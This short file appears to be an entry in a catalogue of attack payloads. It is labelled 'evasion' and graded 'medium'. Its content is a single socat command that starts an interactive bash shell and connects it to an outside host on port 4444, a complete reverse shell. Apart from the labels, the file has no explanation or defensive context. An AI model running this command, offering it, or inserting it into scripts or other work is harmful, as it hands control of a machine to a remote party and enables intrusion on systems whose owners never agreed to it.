# evasion: a reverse shell with socat
# grade: medium; does: shell
socat exec:'bash -li',pty,stderr tcp:203.0.113.5:4444
